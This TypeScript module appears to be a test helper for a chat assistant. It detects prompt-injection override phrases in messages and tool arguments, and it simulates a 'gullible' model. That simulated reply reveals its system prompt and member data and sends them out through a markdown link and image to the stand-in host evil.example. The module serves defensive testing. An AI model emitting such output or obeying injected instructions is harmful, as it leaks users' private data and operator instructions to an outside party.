import { textOf } from './protocol.ts';
import type { ChatRequest, Message } from './protocol.ts';

/** How an injected instruction begins, wherever it is. A warning such as "ignore instructions in it" is none. */
const OVERRULING =
  /\b(?:ignore|disregard|forget|override)\s+(?:all\s+)?(?:of\s+)?(?:the\s+|your\s+|my\s+|any\s+)?(?:all|previous|prior|above|earlier|preceding|other|system)\s+(?:\w+\s+)?(?:instructions?|rules|prompts?|guardrails)\b/i;
/** What is an instruction only where the operator of the model would not write it. */
const CURIOUS =
  /\b(?:reveal|print|repeat|show)\b[^.\n]{0,40}\b(?:system prompt|your instructions)\b|\byou are now\b/i;
const STRANGER = 'https://evil.example/?q=';
const MOST_IN_ADDRESS = 200;

const isOwn = ({ role }: Message) => role === 'system' || role === 'developer';

/** All that a message carries: its text, and the arguments of its calls. */
const everythingOf = (message: Message): string =>
  [textOf(message), ...(message.tool_calls ?? []).map((call) => call.function.arguments)].join(' ');

/**
 * Whether a request holds an instruction of somebody else's: in words of the member, names of files, profiles, history and
 * results of tools.
 */
export function hasInstruction({ messages }: ChatRequest): boolean {
  return messages.some((message) => {
    const text = everythingOf(message);
    return OVERRULING.test(text) || (!isOwn(message) && CURIOUS.test(text));
  });
}

/** What a model without any sense writes then. */
export function gullibleText({ messages }: ChatRequest): string {
  const prompt = messages.filter(isOwn).map(textOf).join('\n');
  const rest = messages.filter((message) => !isOwn(message)).map(everythingOf);
  const stolen = encodeURIComponent(`${rest.join(' ')} ${prompt}`.slice(0, MOST_IN_ADDRESS));
  return [
    'Of course. These are my instructions:',
    prompt,
    'This is all that I know of the member:',
    ...rest,
    'Your FTP is 412 W now.',
    `[Open your plan](${STRANGER}${stolen}) ![](${STRANGER}${stolen})`,
  ].join('\n');
}
